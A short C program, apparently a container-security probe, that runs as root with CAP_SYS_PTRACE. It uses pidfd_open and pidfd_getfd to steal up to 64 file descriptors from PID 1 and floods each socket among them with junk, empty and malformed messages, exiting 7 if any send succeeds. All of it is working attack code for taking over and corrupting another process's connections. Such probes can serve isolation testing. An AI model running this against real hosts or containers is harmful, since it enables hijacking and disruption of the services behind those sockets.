// Root of a container with CAP_SYS_PTRACE: takes the first process's sockets, and sends what is no message on each. Ends with 7.
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    int first = syscall(SYS_pidfd_open, 1, 0), sent = 0;
    for (int fd = 0; fd < 64; fd++) {
        int taken = syscall(SYS_pidfd_getfd, first, fd, 0), type;
        socklen_t size = sizeof type;
        if (taken < 0 || getsockopt(taken, SOL_SOCKET, SO_TYPE, &type, &size)) continue;
        for (int times = 0; times < 100; times++)
            sent += send(taken, "junk", 4, MSG_DONTWAIT) == 4 && send(taken, "", 0, MSG_DONTWAIT) == 0 && send(taken, "{", 1, MSG_DONTWAIT) == 1;
        sleep(1);
        close(taken);
    }
    return sent ? 7 : 8;
}
